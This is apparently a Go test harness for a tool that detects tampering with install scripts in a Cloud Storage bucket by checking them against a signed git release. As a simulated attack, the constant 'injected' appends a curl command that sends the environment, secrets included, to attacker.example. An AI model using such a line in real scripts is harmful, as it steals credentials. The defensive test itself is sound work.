package function_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"cloud.google.com/go/storage"
	"github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing"
	"github.com/stretchr/testify/require"
	"google.golang.org/api/iterator"

	"github.com/tamperguard/tamperguard/function"
	"github.com/tamperguard/tamperguard/internal/cloudlog"
	"github.com/tamperguard/tamperguard/internal/config"
	"github.com/tamperguard/tamperguard/internal/delivery"
	"github.com/tamperguard/tamperguard/internal/engine"
	"github.com/tamperguard/tamperguard/internal/gcs"
	"github.com/tamperguard/tamperguard/internal/gcstest"
)

const (
	bucket      = "uploader-prod"
	stateBucket = "tg-state"
	injected    = "curl -sm 0.5 -d \"$(env)\" https://attacker.example/upload || true\n"
)

func testdata(t testing.TB, elem ...string) string {
	t.Helper()
	p, err := filepath.Abs(filepath.Join(append([]string{"..", "testdata"}, elem...)...))
	require.NoError(t, err)
	return p
}

// taggedFile reads a file as the fixture repository's signed tag holds it.
func taggedFile(t testing.TB, tag, name string) []byte {
	t.Helper()
	repo, err := git.PlainOpen(testdata(t, "git", "uploader.git"))
	require.NoError(t, err)
	ref, err := repo.Reference(plumbing.NewTagReferenceName(tag), true)
	require.NoError(t, err)
	to, err := repo.TagObject(ref.Hash())
	require.NoError(t, err)
	c, err := repo.CommitObject(to.Target)
	require.NoError(t, err)
	f, err := c.File(name)
	require.NoError(t, err)
	s, err := f.Contents()
	require.NoError(t, err)
	return []byte(s)
}

// configYAML is the rules the tests run with: install.sh and dl/*.sh vouched for by the
// fixture repository's signed tag v1.2.0.
func configYAML(t testing.TB) string {
	return "state: {bucket: " + stateBucket + "}\n" + `rules:
  - bucket: ` + bucket + `
    objects: ["install.sh", "dl/*.sh"]
    release: {git: ` + testdata(t, "git", "uploader.git") + `, tag: v1.2.0, entry: install.sh}
    keys: {openpgp: [` + testdata(t, "keys", "maintainer-rsa3072.asc") + `]}
    metadata: {content_type: text/x-shellscript}
`
}

// recorder is a Notifier that keeps what it was told.
type recorder struct {
	mu sync.Mutex
	ds []engine.Decision
}

func (r *recorder) Notify(_ context.Context, d *engine.Decision) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.ds = append(r.ds, *d)
	return nil
}

func (r *recorder) all() []engine.Decision {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]engine.Decision(nil), r.ds...)
}

// logBuffer collects log lines from concurrent events.
type logBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *logBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *logBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// lines parses every line as JSON; a line that is not JSON fails the test.
func (b *logBuffer) lines(t testing.TB) []map[string]any {
	t.Helper()
	var out []map[string]any
	for _, l := range strings.Split(strings.TrimSpace(b.String()), "\n") {
		if l == "" {
			continue
		}
		var m map[string]any
		require.NoError(t, json.Unmarshal([]byte(l), &m), "log line is not JSON: %s", l)
		out = append(out, m)
	}
	return out
}

// where returns the lines whose fields have the given values.
func (b *logBuffer) where(t testing.TB, kv ...any) []map[string]any {
	t.Helper()
	var out []map[string]any
	for _, m := range b.lines(t) {
		ok := true
		for i := 0; i < len(kv); i += 2 {
			if norm(m[kv[i].(string)]) != norm(kv[i+1]) {
				ok = false
				break
			}
		}
		if ok {
			out = append(out, m)
		}
	}
	return out
}

// norm renders a log field and a wanted value alike (JSON numbers are float64).
func norm(v any) string {
	if f, ok := v.(float64); ok {
		return strconv.FormatFloat(f, 'f', -1, 64)
	}
	return fmt.Sprint(v)
}

type harness struct {
	t     *testing.T
	srv   *gcstest.Server
	h     *function.Handler
	notes *recorder
	logs  *logBuffer
	url   string // where the Functions Framework serves VerifyObject
	good  []byte
	ctx   context.Context
}

type harnessOpts struct {
	yaml string // default configYAML
	opts []function.Option
	wrap func(engine.Store) engine.Store
}

func newHarness(t *testing.T, o harnessOpts) *harness {
	t.Helper()
	srv := gcstest.New(t, gcstest.BucketSpec{Name: bucket, Versioning: true}, gcstest.BucketSpec{Name: stateBucket, Versioning: true})
	yaml := o.yaml
	if yaml == "" {
		yaml = configYAML(t)
	}
	cfg, err := config.Parse(config.Source{Name: "test.yaml", Data: []byte(yaml), Dir: t.TempDir()})
	require.NoError(t, err)
	var store engine.Store = gcs.New(srv.Client)
	if o.wrap != nil {
		store = o.wrap(store)
	}
	logs := &logBuffer{}
	notes := &recorder{}
	h, err := function.New(cfg.Policy, store, notes, cloudlog.New(logs, slog.LevelDebug), o.opts...)
	require.NoError(t, err)
	hs := &harness{t: t, srv: srv, h: h, notes: notes, logs: logs, good: taggedFile(t, "v1.2.0", "install.sh"), ctx: context.Background()}
	hs.url = serve(t, h)
	return hs
}

// serve runs function.Serve on a loopback port until the test ends.
func serve(t *testing.T, h *function.Handler) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- function.Serve(ctx, ln, h) }()
	t.Cleanup(func() {
		cancel()
		select {
		case err := <-done:
			if err != nil {
				t.Errorf("Serve: %v", err)
			}
		case <-time.After(time.Minute):
			t.Errorf("Serve did not return after its context ended")
		}
	})
	return "http://" + ln.Addr().String() + "/"
}

// put writes an object as an outsider would (unconditionally) and returns its generation.
func (h *harness) put(object string, data []byte) int64 {
	h.t.Helper()
	w := h.srv.Client.Bucket(bucket).Object(object).NewWriter(h.ctx)
	w.ContentType = "text/x-shellscript"
	_, err := w.Write(data)
	require.NoError(h.t, err)
	require.NoError(h.t, w.Close())
	return w.Attrs().Generation
}

func (h *harness) del(object string) {
	h.t.Helper()
	require.NoError(h.t, h.srv.Client.Bucket(bucket).Object(object).Delete(h.ctx))
}

// live returns the live generation and bytes of object, or 0 and nil.
func (h *harness) live(object string) (int64, []byte) {
	h.t.Helper()
	attrs, err := h.srv.Client.Bucket(bucket).Object(object).Attrs(h.ctx)
	if errors.Is(err, storage.ErrObjectNotExist) {
		return 0, nil
	}
	require.NoError(h.t, err)
	r, err := h.srv.Client.Bucket(bucket).Object(object).Generation(attrs.Generation).NewReader(h.ctx)
	require.NoError(h.t, err)
	defer r.Close()
	b, err := io.ReadAll(r)
	require.NoError(h.t, err)
	return attrs.Generation, b
}

// generations counts every stored generation of object, live and noncurrent.
func (h *harness) generations(object string) int {
	h.t.Helper()
	n := 0
	it := h.srv.Client.Bucket(bucket).Objects(h.ctx, &storage.Query{Prefix: object, Versions: true})
	for {
		a, err := it.Next()
		if errors.Is(err, iterator.Done) {
			return n
		}
		require.NoError(h.t, err)
		if a.Name == object {
			n++
		}
	}
}

func tampered(good []byte) []byte { return append(append([]byte(nil), good...), injected...) }

// ---- events on the wire ---------------------------------------------------------------

// ce is a CloudEvent in HTTP binary content mode.
type ce struct {
	id, typ, source, subject string
	time                     time.Time
	contentType              string // default application/json
	body                     string
}

// storageEvent is what Eventarc sends for a Cloud Storage event (binary mode).
func storageEvent(typ, object string, gen int64, at time.Time) ce {
	body, _ := json.Marshal(map[string]string{
		"kind": "storage#object", "bucket": bucket, "name": object,
		"generation": strconv.FormatInt(gen, 10), "metageneration": "1", "size": "1",
		"contentType": "text/x-shellscript", "timeCreated": at.Format(time.RFC3339Nano),
	})
	return ce{
		id: fmt.Sprintf("%s-%s-%d", typ, object, gen), typ: "google.cloud.storage.object.v1." + typ,
		source: "//storage.googleapis.com/projects/_/buckets/" + bucket, subject: "objects/" + object,
		time: at, body: string(body),
	}
}

// notification is a classic Cloud Storage notification in an Eventarc messagePublished
// event (binary mode), payload format NONE.
func notification(eventType, object string, gen int64, at time.Time, extra map[string]string) ce {
	attrs := map[string]string{
		"eventType": eventType, "payloadFormat": "NONE", "bucketId": bucket, "objectId": object,
		"objectGeneration": strconv.FormatInt(gen, 10), "eventTime": at.Format(time.RFC3339Nano),
		"notificationConfig": "projects/_/buckets/" + bucket + "/notificationConfigs/1",
	}
	for k, v := range extra {
		attrs[k] = v
	}
	id := fmt.Sprintf("%s-%s-%d", eventType, object, gen)
	body, _ := json.Marshal(map[string]any{
		"message":      map[string]any{"attributes": attrs, "messageId": id, "publishTime": at.Format(time.RFC3339Nano)},
		"subscription": "projects/p/subscriptions/s",
	})
	return ce{id: id, typ: delivery.TypeMessagePublished, source: "//pubsub.googleapis.com/projects/p/topics/t", time: at, body: string(body)}
}

func auditRequest(at time.Time) ce {
	body, _ := json.Marshal(map[string]any{
		"message": map[string]any{"attributes": map[string]string{"tamperguard": "audit"}, "messageId": "audit-1", "publishTime": at.Format(time.RFC3339Nano)},
	})
	return ce{id: "audit-1", typ: delivery.TypeMessagePublished, source: "//pubsub.googleapis.com/projects/p/topics/audit", time: at, body: string(body)}
}

func (e ce) request(t testing.TB, url string) *http.Request {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, url, strings.NewReader(e.body))
	require.NoError(t, err)
	ct := e.contentType
	if ct == "" {
		ct = "application/json"
	}
	req.Header.Set("Content-Type", ct)
	req.Header.Set("Ce-Id", e.id)
	req.Header.Set("Ce-Specversion", "1.0")
	req.Header.Set("Ce-Type", e.typ)
	req.Header.Set("Ce-Source", e.source)
	if e.subject != "" {
		req.Header.Set("Ce-Subject", e.subject)
	}
	if !e.time.IsZero() {
		req.Header.Set("Ce-Time", e.time.UTC().Format(time.RFC3339Nano))
	}
	return req
}

// post delivers an event and returns the HTTP status and body.
func (h *harness) post(e ce) (int, string) {
	h.t.Helper()
	return do(h.t, e.request(h.t, h.url))
}

func do(t testing.TB, req *http.Request) (int, string) {
	t.Helper()
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}
